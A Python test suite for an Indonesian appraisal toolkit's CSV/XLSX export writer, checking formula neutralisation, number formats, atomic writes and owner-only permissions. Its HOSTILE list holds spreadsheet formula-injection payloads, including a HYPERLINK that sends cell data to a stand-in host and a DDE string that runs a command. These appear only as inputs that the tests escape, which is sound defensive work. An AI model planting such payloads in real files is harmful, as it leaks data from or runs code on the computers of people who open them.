"""The export writer: formula text is neutralised, numbers stay numbers, files are all-or-nothing and owner-only."""

from __future__ import annotations

import csv
import io
import os
import stat

import pandas as pd
import pytest
from openpyxl import load_workbook

from kinerja_lib.errors import OutputError
from kinerja_lib.export import (Sheet, StagedFile, check_output_dir, check_output_path, csv_text, neutralise,
                                write_csv, write_table, write_xlsx)

HOSTILE = ['=HYPERLINK("http://contoh.invalid/?d="&A1, "Klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tSelipan", "\rBaris", "  =1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
    """Every formula trigger of OWASP/ASVS 1.2.10 (also after spaces, full-width) is escaped with a leading apostrophe."""
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Sri Lestari", "-3", "+62", "2,5", "dr. Andi, M.Kes.", ""])
def test_ordinary_text_and_plain_numbers_are_left_alone(text):
    """Names and numbers written as text are not changed."""
    assert neutralise(text) == text


def frame():
    return pd.DataFrame({
        "nip": ["198501012010011001", "199003032015022003"],
        "nama": [HOSTILE[0], "Budi"],
        "selisih": [-0.75, 1.25],
        "laju": [0.125, None],
        "layak": [True, False],
    })


HEADERS = ["NIP", "Nama", "Selisih Diri - Penilai Lain", "Laju Seleksi", "Layak"]


def sheet():
    """Headers, the share's percent format and the NIP as text come from the column vocabulary."""
    return Sheet("Daftar", frame())


def test_xlsx_cells_are_text_or_numbers_never_formulas(tmp_path):
    """User text is a string cell with the apostrophe, negative numbers stay numeric, booleans read Ya/Tidak."""
    path = write_xlsx(tmp_path / "hasil.xlsx", [sheet()], settings={"siklus": "Tahunan 2026", "bobot": {"rekan": 0.3}})
    wb = load_workbook(path)
    ws = wb["Daftar"]
    assert [c.value for c in ws[1]] == HEADERS
    assert [c.value for c in ws[2]] == ["198501012010011001", "'" + HOSTILE[0], -0.75, 0.125, "Ya"]
    assert [c.data_type for c in ws[2]] == ["s", "s", "n", "n", "s"]
    assert [c.value for c in ws[3]] == ["199003032015022003", "Budi", 1.25, None, "Tidak"]
    assert ws["D2"].number_format == "0.0%" and ws["C2"].number_format == "0.00"
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width > ws.column_dimensions["E"].width
    assert [[c.value for c in row] for row in wb["Pengaturan"].iter_rows()] == [
        ["Pengaturan", "Nilai"], ["siklus", "Tahunan 2026"], ["bobot.rekan", 0.3]]
    assert not any(c.data_type == "f" for s in wb for row in s.iter_rows() for c in row)


def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    """The CSV has a BOM, Indonesian headers, text with the apostrophe, numbers as written numbers."""
    path = write_csv(tmp_path / "daftar.csv", sheet())
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0] == ",".join(HEADERS)
    assert lines[2] == "199003032015022003,Budi,1.25,,Tidak"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1] == ["198501012010011001", "'" + HOSTILE[0], "-0.75", "0.125", "Ya"]


def test_csv_rounds_floats_by_their_format():
    """Floats are rounded: to the format's places (percent keeps two more), else to 4 places."""
    text = csv_text(Sheet("x", [(1 / 3, 2 / 3)], columns=["skor", "laju"], formats={"laju": "0%"}))
    assert text.splitlines()[1] == "0.3333,0.67"


def test_exports_are_readable_by_the_owner_only(tmp_path):
    """CSV and XLSX exports are created with mode 0600 whatever the umask."""
    old = os.umask(0o022)
    try:
        paths = [write_csv(tmp_path / "a.csv", sheet()), write_xlsx(tmp_path / "a.xlsx", [sheet()])]
    finally:
        os.umask(old)
    assert [stat.S_IMODE(p.stat().st_mode) for p in paths] == [0o600, 0o600]


def test_a_failed_write_leaves_the_previous_file_and_no_temporary_file(tmp_path):
    """An error while writing rows keeps the old export byte for byte and leaves no stray file."""
    target = tmp_path / "hasil.xlsx"
    write_xlsx(target, [sheet()])
    before = target.read_bytes()

    def rows():
        yield ("198501012010011001", "Sri", 1.0, 0.5, True)
        raise RuntimeError("gagal di tengah")

    with pytest.raises(RuntimeError):
        write_xlsx(target, [Sheet("Daftar", rows(), columns=list(frame().columns))])
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hasil.xlsx"]


def test_a_placed_file_can_be_taken_back(tmp_path):
    """StagedFile.undo after place() restores the file it replaced (a database commit that failed)."""
    target = tmp_path / "tautan.csv"
    target.write_text("lama")
    staged = StagedFile(target)
    staged.temp.write_text("baru")
    staged.place()
    assert target.read_text() == "baru"
    staged.undo()
    assert target.read_text() == "lama"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tautan.csv"]


@pytest.mark.parametrize("name, fragment", [
    ("tautan.xls", "ekstensi '.xls' tidak dikenal; gunakan .xlsx atau .csv"),
    ("tautan", "tanpa ekstensi tidak dikenal"),
    ("tidak-ada/tautan.xlsx", "folder"),
    ("folder.xlsx", "adalah folder"),
])
def test_unusable_output_paths_are_refused_before_any_work(tmp_path, name, fragment):
    """A wrong extension, a missing folder or a folder in place of the file raise OutputError naming it."""
    (tmp_path / "folder.xlsx").mkdir()
    with pytest.raises(OutputError, match="tautan|folder") as info:
        check_output_path(tmp_path / name, ("xlsx", "csv"))
    assert fragment in str(info.value)


@pytest.mark.parametrize("make", [os.mkfifo, lambda p: os.symlink("/dev/null", p)], ids=["fifo", "device"])
def test_a_special_file_is_never_an_output_file(tmp_path, make):
    """A FIFO or a device named like an export is refused: renaming over it would replace it."""
    path = tmp_path / "tautan.xlsx"
    make(path)
    with pytest.raises(OutputError, match="bukan berkas biasa"):
        check_output_path(path, ("xlsx",))


def test_write_table_picks_the_format_by_extension(tmp_path):
    """write_table writes CSV or XLSX by the suffix and refuses others."""
    assert write_table(tmp_path / "a.CSV", sheet()).read_bytes().startswith(b"\xef\xbb\xbf")
    assert load_workbook(write_table(tmp_path / "a.xlsx", sheet())).sheetnames == ["Daftar"]
    with pytest.raises(OutputError):
        write_table(tmp_path / "a.pdf", sheet())


def test_an_output_folder_may_be_new_but_its_parent_must_exist(tmp_path):
    """check_output_dir accepts a new folder under an existing one and refuses a missing parent or a file."""
    assert check_output_dir(tmp_path / "laporan") == tmp_path / "laporan"
    (tmp_path / "berkas").write_text("x")
    with pytest.raises(OutputError, match="bukan folder"):
        check_output_dir(tmp_path / "berkas")
    with pytest.raises(OutputError, match="folder induk"):
        check_output_dir(tmp_path / "a" / "b")


# --- every export of the kit goes through the writer -------------------------------------------------

def test_the_reminder_list_neutralises_a_formula_name(small_org, tmp_path):
    """The admin dashboard's reminder CSV (text and file) escapes a roster name that is a formula; 0600."""
    from kinerja_lib import form_service, links

    small_org.db.execute("UPDATE pegawai SET nama = ? WHERE nip = ?", [HOSTILE[0], small_org.nip["andi"]])
    grant = links.resolve(small_org.db, links.issue_admin_link(small_org.db, small_org.cycle.id).token)
    text = form_service.reminder_csv(small_org.db, grant)
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[1] for r in rows if r[0] == small_org.nip["andi"]] == ["'" + HOSTILE[0]]
    path = form_service.export_reminders(small_org.db, grant, tmp_path / "pengingat.csv")
    assert path.read_bytes().decode("utf-8-sig") == text
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.fixture(scope="module")
def hostile_demo(tmp_path_factory):
    """A scored 60-pegawai demo in which one scored pegawai's name and jabatan are formulas."""
    from types import SimpleNamespace

    from kinerja_lib.demo import build_demo_database
    from kinerja_lib.scoring import run_scoring

    db, summary = build_demo_database(tmp_path_factory.mktemp("ekspor") / "demo.db", 60, 21, cycles=1)
    nip = db.execute("SELECT ratee_nip FROM assignment WHERE cycle_id = ? AND relation = 'atasan' "
                     "AND status = 'terkirim' ORDER BY ratee_nip LIMIT 1", [summary.cycle_id]).fetchone()[0]
    db.execute("UPDATE pegawai SET nama = ?, jabatan = ? WHERE nip = ?", [HOSTILE[0], HOSTILE[3], nip])
    db.conn.commit()
    run_scoring(db, summary.cycle_id)
    yield SimpleNamespace(db=db, cycle_id=summary.cycle_id, nip=nip)
    db.close()


def no_formulas(wb) -> bool:
    return not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)


def test_the_score_workbook_neutralises_names_and_formats_shares(hostile_demo, tmp_path):
    """export_results_xlsx: the hostile name is escaped text, shares are percentages, no formula anywhere, 0600."""
    from kinerja_lib.scoring import export_results_xlsx

    path = export_results_xlsx(hostile_demo.db, hostile_demo.cycle_id, tmp_path / "hasil.xlsx")
    wb = load_workbook(path)
    ws = wb["Skor 360"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == hostile_demo.nip)
    name = row[header.index("Nama")]
    assert (name.value, name.data_type) == ("'" + HOSTILE[0], "s")
    shares = wb["Distribusi Unit"]
    share_columns = [i for i, c in enumerate(shares[1]) if c.value == "Baik"]
    assert share_columns and shares.cell(2, share_columns[0] + 1).number_format == "0.0%"
    assert ws.freeze_panes == "A2" and no_formulas(wb)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_the_training_workbook_neutralises_names_and_keeps_its_layout(hostile_demo, tmp_path):
    """export_training_xlsx: the hostile name and jabatan are escaped text, NIP is '@' text, booleans Ya/Tidak."""
    from kinerja_lib.competency import analyse_competency, export_training_xlsx

    report = analyse_competency(hostile_demo.db, hostile_demo.cycle_id)
    wb = load_workbook(export_training_xlsx(report, tmp_path / "rencana.xlsx"))
    ws = wb["Ringkasan Pegawai"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == hostile_demo.nip)
    assert row[header.index("Nama")].value == "'" + HOSTILE[0]
    assert row[header.index("Jabatan")].value == "'" + HOSTILE[3]
    assert (row[0].data_type, row[0].number_format) == ("s", "@")
    flag = header.index("Memenuhi JP Minimal")
    assert {r[flag].value for r in ws.iter_rows(min_row=2)} <= {"Ya", "Tidak"}
    assert ws.freeze_panes == "A2" and no_formulas(wb)


def test_the_award_workbook_neutralises_names_and_says_ya_or_tidak(hostile_demo, tmp_path):
    """awards.export_xlsx: the hostile name is escaped text, booleans read Ya/Tidak, probabilities are percentages."""
    from kinerja_lib.awards import award_report, export_xlsx

    report = award_report(hostile_demo.db, hostile_demo.cycle_id, k=5)
    wb = load_workbook(export_xlsx(report, tmp_path / "penghargaan.xlsx"))
    ws = wb["Kelayakan"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == hostile_demo.nip)
    assert (row[header.index("Nama")].value, row[header.index("Nama")].data_type) == ("'" + HOSTILE[0], "s")
    assert {r[header.index("Layak")].value for r in ws.iter_rows(min_row=2)} <= {"Ya", "Tidak"}
    short = wb["Daftar pendek"]
    head = [c.value for c in short[1]]
    chance = short.cell(2, head.index("Peluang Masuk k Teratas") + 1)
    assert chance.number_format == "0%" and isinstance(chance.value, float)
    assert short.cell(2, head.index("Masuk Daftar Pendek") + 1).value in ("Ya", "Tidak")
    assert no_formulas(wb) and stat.S_IMODE((tmp_path / "penghargaan.xlsx").stat().st_mode) == 0o600


def test_xlsx_text_with_markup_characters_reads_back_unchanged(tmp_path):
    """Ampersands, angle brackets, quotes, carriage returns and edge spaces are escaped and read back as typed."""
    texts = ["Dinas A & B", "<b>tebal</b>", "skor > 3 & < 5", "baris\r\nbaru", "  spasi di tepi  ", 'kutip "ganda"',
             "&amp; sudah tertulis"]
    path = write_xlsx(tmp_path / "teks.xlsx", [Sheet("Teks", pd.DataFrame({"nama": texts}))])
    assert [row[0].value for row in load_workbook(path)["Teks"].iter_rows(min_row=2)] == texts


def test_xlsx_replaces_characters_xml_cannot_hold_and_keeps_line_breaks(tmp_path):
    """Control characters and U+FFFE/U+FFFF become U+FFFD (the file stays readable); tabs and newlines stay."""
    texts = ["a\x01b", "baris\x0bvertikal", "akhir\ufffe\uffff", "tab\tdan\nbaris", "biasa"]
    path = write_xlsx(tmp_path / "kendali.xlsx", [Sheet("Teks", pd.DataFrame({"nama": texts}))])
    assert [row[0].value for row in load_workbook(path)["Teks"].iter_rows(min_row=2)] == [
        "a\ufffdb", "baris\ufffdvertikal", "akhir\ufffd\ufffd", "tab\tdan\nbaris", "biasa"]
